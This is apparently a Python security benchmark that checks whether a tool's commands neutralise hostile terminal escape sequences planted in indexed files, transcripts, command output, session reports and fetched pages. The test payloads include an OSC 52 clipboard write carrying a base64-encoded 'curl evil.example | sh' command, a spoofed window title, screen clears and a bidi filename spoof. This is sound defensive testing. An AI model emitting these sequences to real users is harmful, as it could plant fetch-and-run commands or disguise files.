"""Control sequences planted / printed raw: terminal escapes in what capy prints for a person.

Text capy stores or produces can carry bytes a terminal obeys: an OSC 52 write to the user's
clipboard, an OSC 0 window title, a CSI screen clear, the same as raw C1 controls, and a bidi
override that reorders what the user reads. Each is planted where a human command will print
it (an indexed file, an archived transcript, a command's output, a session report, a page on
a loopback server), the command runs as a real subprocess with its output on pipes, and each
sequence that comes out unchanged on stdout or stderr counts. A plain word beside each
sequence shows the command printed the planted text at all, so a 0 means neutralised, not
unseen.
"""

from __future__ import annotations

import json
import secrets
from pathlib import Path

from capy.bench.hostile_common import (
    Outcome,
    Scratch,
    allow_loopback_fetch,
    capy_command,
    loopback_server,
    run_process,
    text_page,
    write_transcript,
)

PROBE = "quokka"
# (name, sequence): what a hostile text carries; each is looked for verbatim in the output.
SEQUENCES = (
    ("OSC 52 clipboard write", "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"),
    ("OSC 0 window title", "\x1b]0;capy: all clear\x07"),
    ("CSI screen clear", "\x1b[2J\x1b[H"),
    ("C1 CSI (U+009B)", "\x9b2J"),
    ("C1 OSC (U+009D)", "\x9d0;capy: all clear\x9c"),
    ("bidi override (U+202E)", "\u202etxt.exe"),
)


def planted_lines() -> list[str]:
    return [
        f"{PROBE} note {number}: before {seq} after" for number, (_, seq) in enumerate(SEQUENCES)
    ]


def lines_seen(text: str) -> int:
    """How many planted lines the output shows at all (by the plain words around each)."""
    return sum(f"{PROBE} note {number}:" in text for number in range(len(SEQUENCES)))


def printed_raw(text: str) -> list[str]:
    """The names of the sequences that `text` holds unchanged."""
    return [name for name, seq in SEQUENCES if seq in text]


def _capy(scratch: Scratch, *args: str) -> Outcome:
    return run_process(capy_command(*args), env=scratch.env, cwd=scratch.project)


def _search(scratch: Scratch, db: str) -> str:
    notes = scratch.project / "hostile-notes.md"
    notes.write_text("# notes\n\n" + "\n\n".join(planted_lines()) + "\n", encoding="utf-8")
    _capy(scratch, "index", str(notes), "--source", "hostile notes", "--db", db)
    return _capy(scratch, "search", PROBE, "--db", db).text


def _vault_show(scratch: Scratch) -> str:
    session = f"hostile-term-{secrets.token_hex(3)}"
    write_transcript(scratch.root / "terminal-transcripts", session, planted_lines())
    vault = ["--path", str(scratch.root / "terminal-vault.db")]
    _capy(
        scratch, "vault", "import", "--source", str(scratch.root / "terminal-transcripts"), *vault
    )
    return _capy(scratch, "vault", "show", session, "--results", *vault).text


def _execute(scratch: Scratch) -> str:
    (scratch.project / "hostile-output.txt").write_text("\n".join(planted_lines()), "utf-8")
    return _capy(scratch, "execute", "shell", "cat hostile-output.txt").text


def _stats(scratch: Scratch, db: str) -> str:
    """A session report on disk beside the knowledge base, its session id and tool hostile."""
    folder = Path(db).parent / "sessions"
    folder.mkdir(parents=True, exist_ok=True)
    lines = planted_lines()
    report = {
        "session_id": " ".join(lines[:3]),
        "started_at": 0,
        "tools": {line: {"calls": 1, "returned_bytes": 10} for line in lines[3:]},
    }
    (folder / "hostile.json").write_text(json.dumps(report), encoding="utf-8")
    return _capy(scratch, "stats", "--db", db).text


def _fetch(scratch: Scratch, db: str) -> str:
    allow_loopback_fetch(scratch)
    body = (" ; ".join(planted_lines()) + "\n").encode()
    with loopback_server(text_page(body)) as port:
        return _capy(scratch, "fetch", f"http://127.0.0.1:{port}/notes.txt", "--db", db).text


def control(scratch: Scratch) -> bool:
    """A process that prints every sequence raw: the harness must count each one."""
    import sys

    code = "import sys; sys.stdout.write(sys.argv[1])"
    said = run_process(
        [sys.executable, "-c", code, "\n".join(planted_lines())], env=scratch.env, cwd=scratch.root
    )
    return len(printed_raw(said.text)) == len(SEQUENCES)


WHERE = {
    "capy search (stored text)": lambda scratch, db: _search(scratch, db),
    "capy vault show (archived transcript)": lambda scratch, db: _vault_show(scratch),
    "capy execute (command output)": lambda scratch, db: _execute(scratch),
    "capy stats (session report)": _stats,
    "capy fetch (page preview)": _fetch,
}


def run(scratch: Scratch, *, quick: bool, where: tuple[str, ...] | None = None) -> dict:
    """Every human command in WHERE (or those named in `where`); a quick run is the same."""
    db = str(scratch.root / "terminal" / "knowledge.db")
    Path(db).parent.mkdir(parents=True, exist_ok=True)
    outputs = {name: WHERE[name](scratch, db) for name in where or WHERE}
    rows = [
        {
            "where": where,
            "planted": len(SEQUENCES),
            "printed_raw": len(printed_raw(text)),
            "raw": printed_raw(text),
            "seen": lines_seen(text),
        }
        for where, text in outputs.items()
    ]
    return {
        "rows": rows,
        "planted": sum(row["planted"] for row in rows),
        "printed_raw": sum(row["printed_raw"] for row in rows),
        "unreached": [row["where"] for row in rows if row["seen"] == 0],
        "control_seen": control(scratch),
    }
